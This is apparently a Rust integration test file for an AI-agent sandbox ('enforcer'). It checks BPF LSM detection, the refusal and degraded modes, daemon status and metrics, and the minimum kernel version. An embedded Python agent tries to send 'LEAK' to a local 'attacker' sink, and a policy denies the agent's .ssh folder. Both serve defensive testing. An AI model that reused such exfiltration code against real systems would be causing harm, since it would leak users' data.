//! BPF LSM capability detection (issue: file policy needs BPF LSM).
//!
//! The enforcer probes the kernel at start. These tests assert the right
//! behaviour for whichever answer the kernel gives, and that the answer is
//! reported consistently (status and metric): on a kernel without BPF LSM
//! (this project's host) a policy with `files:` is refused with the kernel
//! requirement, or run degraded (network part only) on request; on a kernel
//! with it (the VM runner), the policy is accepted and enforced (the file
//! rules themselves are tested in files.rs).
use std::time::Duration;

use enforcer_tests::*;

fn files_policy(name: &str, api_port: u16) -> String {
    format!(
        "apiVersion: enforcer.dev/v1alpha1\nkind: AgentPolicy\nmetadata:\n  name: {name}\nspec:\n  \
         egress:\n    - cidr: 127.0.0.1/32\n      ports: [{api_port}]\n      protocol: tcp\n  \
         files:\n    - path: /home/agent/.ssh\n      access: deny\n"
    )
}

const AGENT: &str = r#"
import socket, sys
api, attacker = int(sys.argv[1]), int(sys.argv[2])
s = socket.create_connection(("127.0.0.1", api), timeout=3); s.sendall(b"api-call"); s.close()
try:
    socket.create_connection(("127.0.0.2", attacker), timeout=3).sendall(b"LEAK")
    print("attacker-reached")
except OSError as e:
    print("attacker-errno", e.errno)
sys.exit(7)
"#;

#[test]
fn file_policy_is_refused_or_degraded_by_kernel_capability() {
    if !require_root("file_policy_is_refused_or_degraded_by_kernel_capability") {
        return;
    }
    if below_min_linux("file_policy_is_refused_or_degraded_by_kernel_capability") {
        return;
    }
    let dir = TestDir::new("lsm-run");
    let api = TcpSink::bind("127.0.0.1:0".parse().unwrap()).unwrap();
    let attacker = TcpSink::bind("127.0.0.2:0".parse().unwrap()).unwrap();
    let pol = dir.join("files.yaml");
    write_atomic(&pol, &files_policy("files-agent", api.port()));
    let run = |extra: &[&str]| {
        let mut c = enforcer();
        c.arg("run")
            .args(["--user", "root", "--policy"])
            .arg(&pol)
            .args(extra)
            .current_dir(dir.path())
            .arg("--");
        c.arg(python()).args([
            "-c",
            AGENT,
            &api.port().to_string(),
            &attacker.port().to_string(),
        ]);
        // (Under the VM runner's emulation a start that loads the BPF LSM
        // hooks took ~50 s of the former 60.)
        output_with_timeout(c, Duration::from_secs(180))
    };

    let first = run(&[]);
    let err = String::from_utf8_lossy(&first.stderr).to_string();
    if err.contains("no BPF LSM") {
        // The kernel lacks BPF LSM: refused before the agent ran; the error
        // names the file position and the kernel requirement.
        assert_eq!(first.status.code(), Some(1), "must refuse: {err}");
        assert!(api.bytes() == 0, "the agent must not have run");
        assert!(err.contains("files.yaml:"), "{err}");
        assert!(err.contains("lsm="), "{err}");
        assert!(err.contains("--allow-degraded"), "{err}");

        let degraded = run(&["--allow-degraded"]);
        let out = String::from_utf8_lossy(&degraded.stdout).to_string();
        let err = String::from_utf8_lossy(&degraded.stderr).to_string();
        assert_eq!(degraded.status.code(), Some(7), "agent's status: {err}");
        assert!(err.contains("DEGRADED"), "degraded mode must say so: {err}");
        assert!(
            out.contains(&format!("attacker-errno {}", libc::EPERM)),
            "the network part is still enforced: {out}"
        );
        assert!(
            poll_until(Duration::from_secs(5), Duration::from_millis(20), || {
                api.bytes() > 0
            }),
            "allowed call did not arrive"
        );
        std::thread::sleep(Duration::from_millis(200));
        assert_eq!(
            attacker.bytes() + attacker.conns(),
            0,
            "zero bytes to the attacker"
        );
    } else {
        // BPF LSM is there: the policy runs, file rules and all.
        let out = String::from_utf8_lossy(&first.stdout).to_string();
        assert_eq!(first.status.code(), Some(7), "agent's status: {err}");
        assert!(!err.contains("DEGRADED"), "{err}");
        assert!(
            out.contains(&format!("attacker-errno {}", libc::EPERM)),
            "{out}"
        );
    }
}

#[test]
fn daemon_reports_bpf_lsm_capability() {
    if !require_root("daemon_reports_bpf_lsm_capability") {
        return;
    }
    if below_min_linux("daemon_reports_bpf_lsm_capability") {
        return;
    }
    let _serial = serial();
    let cg = Cgroup::create("lsm-daemon");
    let pins = PinDir::new("lsm-daemon");
    let dir = TestDir::new("lsm-daemon");
    let mut d = Daemon::configure(&dir, &pins, &[(&cg.path, "files-agent")]);
    write_atomic(
        &d.policies.join("files.yaml"),
        &files_policy("files-agent", 9),
    );
    d.start();
    let st = d.status();
    let cap = &st["capabilities"]["bpf_lsm"];
    let available = cap["available"]
        .as_bool()
        .unwrap_or_else(|| panic!("status has no bpf_lsm capability: {st}"));
    assert!(
        cap["detail"].as_str().is_some_and(|s| !s.is_empty()),
        "{st}"
    );
    let m = metric(&d.scrape(), "enforcer_capability", &[("name", "bpf_lsm")]);
    assert_eq!(
        m,
        Some(if available { 1.0 } else { 0.0 }),
        "metric matches status"
    );
    // Without BPF LSM (and allowDegraded off) the file policy is rejected
    // with the reason in status, and the bound cgroup fails closed; with
    // it, the policy is in force.
    let rejected = st["rejected"].to_string();
    if available {
        assert_eq!(st["rejected"], serde_json::json!([]), "{st}");
        assert!(
            st["identities"]
                .as_array()
                .is_some_and(|a| a.iter().any(|i| i["name"] == "files-agent")),
            "{st}"
        );
        d.kill9();
        return;
    }
    assert!(rejected.contains("files.yaml"), "{st}");
    assert!(
        rejected.contains("no BPF LSM") && rejected.contains("lsm="),
        "{st}"
    );
    assert!(
        st["fail_closed_cgroups"]
            .to_string()
            .contains("files-agent"),
        "{st}"
    );
    d.kill9();

    if !available {
        // allowDegraded: the network part runs, and status says what is not enforced.
        let dir2 = TestDir::new("lsm-daemon-degraded");
        let mut d2 = Daemon::configure(&dir2, &pins, &[(&cg.path, "files-agent")]);
        let cfg = std::fs::read_to_string(&d2.config).unwrap();
        write_atomic(&d2.config, &format!("{cfg}allowDegraded: true\n"));
        write_atomic(
            &d2.policies.join("files.yaml"),
            &files_policy("files-agent", 9),
        );
        d2.start();
        let st = d2.status();
        assert!(st["degraded"].to_string().contains("files-agent"), "{st}");
        assert!(
            st["identities"]
                .as_array()
                .is_some_and(|a| a.iter().any(|i| i["name"] == "files-agent")),
            "{st}"
        );
        d2.kill9();
    }
}

/// The cgroup programs read the current task's cgroup id and process id
/// through the task where the kernel lets them (`task_walk_loads`, probed
/// at load): on this kernel's BTF the probe program loads, and the same
/// walk one byte past the last member of `kernfs_node` is refused (the
/// probe can say no).
#[test]
fn the_task_walk_probe_loads_and_can_refuse() {
    if !require_root("the_task_walk_probe_loads_and_can_refuse") {
        return;
    }
    if below_min_linux("the_task_walk_probe_loads_and_can_refuse") {
        return;
    }
    use enforcer::kernel::btf;
    let b = btf::Btf::from_sys_fs().expect("this kernel has BTF");
    let o = btf::task_offsets(&b).expect("task_struct, css_set, cgroup, kernfs_node offsets");
    assert_eq!(o.valid, 1);
    btf::task_walk_loads(&o).expect("the task walk loads on this kernel");
    let bad = enforcer_common::TaskOffsets { kn_id: 30_000, ..o };
    let e = btf::task_walk_loads(&bad).expect_err("a read past struct kernfs_node is refused");
    assert!(!e.is_empty(), "{e}");
}

/// enforcer's minimum Linux (`enforcer::kernel::MIN_LINUX`), as numbers.
fn min_linux() -> (u32, u32) {
    let (a, b) = enforcer::kernel::MIN_LINUX.split_once('.').unwrap();
    (a.parse().unwrap(), b.parse().unwrap())
}

/// The running kernel's (major, minor).
fn linux_version() -> (u32, u32) {
    let rel = std::fs::read_to_string("/proc/sys/kernel/osrelease").unwrap();
    let mut it = rel.split(|c: char| !c.is_ascii_digit());
    let major = it.next().and_then(|x| x.parse().ok()).unwrap();
    let minor = it.next().and_then(|x| x.parse().ok()).unwrap();
    (major, minor)
}

/// On a kernel older than enforcer's minimum (Debian 11's 5.10 in
/// `cargo xtask vm-matrix`), enforcer refuses to start, which
/// `an_older_kernel_is_refused_with_the_reason` checks; the tests of what
/// enforcer does once loaded do not apply there and say so.
fn below_min_linux(test: &str) -> bool {
    let below = linux_version() < min_linux();
    if below && std::env::var_os("ENFORCER_TEST_BELOW_MIN_OK").is_none() {
        panic!(
            "{test}: Linux {:?} is older than enforcer's minimum {}: only `cargo xtask vm-matrix` \
             (which sets ENFORCER_TEST_BELOW_MIN_OK) expects that",
            linux_version(),
            enforcer::kernel::MIN_LINUX
        );
    }
    if below {
        eprintln!(
            "{test}: Linux {:?} is older than enforcer's minimum {}: enforcer refuses to start \
             here (an_older_kernel_is_refused_with_the_reason checks that)",
            linux_version(),
            enforcer::kernel::MIN_LINUX
        );
    }
    below
}

/// Below the minimum, `enforcer run` refuses before the agent runs and
/// names the kernel, the missing BPF helper and the Linux it needs; at or
/// above it, the same network policy is enforced.
#[test]
fn an_older_kernel_is_refused_with_the_reason() {
    if !require_root("an_older_kernel_is_refused_with_the_reason") {
        return;
    }
    let dir = TestDir::new("min-linux");
    let api = TcpSink::bind("127.0.0.1:0".parse().unwrap()).unwrap();
    let attacker = TcpSink::bind("127.0.0.2:0".parse().unwrap()).unwrap();
    let pol = dir.join("net.yaml");
    write_atomic(
        &pol,
        &policy_yaml(
            "min-linux",
            "spiffe://test/min-linux",
            "enforce",
            &[("127.0.0.1/32", &[api.port()], "tcp")],
        ),
    );
    let mut c = enforcer();
    c.arg("run")
        .args(["--user", "root", "--policy"])
        .arg(&pol)
        .current_dir(dir.path())
        .arg("--")
        .arg(python())
        .args([
            "-c",
            AGENT,
            &api.port().to_string(),
            &attacker.port().to_string(),
        ]);
    let out = output_with_timeout(c, Duration::from_secs(180));
    let err = String::from_utf8_lossy(&out.stderr).to_string();
    let stdout = String::from_utf8_lossy(&out.stdout).to_string();
    if linux_version() < min_linux() {
        assert_eq!(out.status.code(), Some(1), "must refuse: {err}");
        assert!(
            err.contains(&format!(
                "enforcer needs Linux >= {}",
                enforcer::kernel::MIN_LINUX
            )),
            "{err}"
        );
        assert!(err.contains("lacks the BPF helper"), "{err}");
        assert!(
            err.lines().count() < 10,
            "the reason, not the verifier's whole log: {err}"
        );
        assert_eq!(api.bytes(), 0, "the agent must not have run");
    } else {
        assert_eq!(out.status.code(), Some(7), "agent's status: {err}");
        assert!(
            stdout.contains(&format!("attacker-errno {}", libc::EPERM)),
            "{stdout}"
        );
        assert!(
            poll_until(Duration::from_secs(5), Duration::from_millis(20), || {
                api.bytes() > 0
            }),
            "allowed call did not arrive"
        );
    }
    assert_eq!(
        attacker.bytes() + attacker.conns(),
        0,
        "zero bytes to the attacker"
    );
}
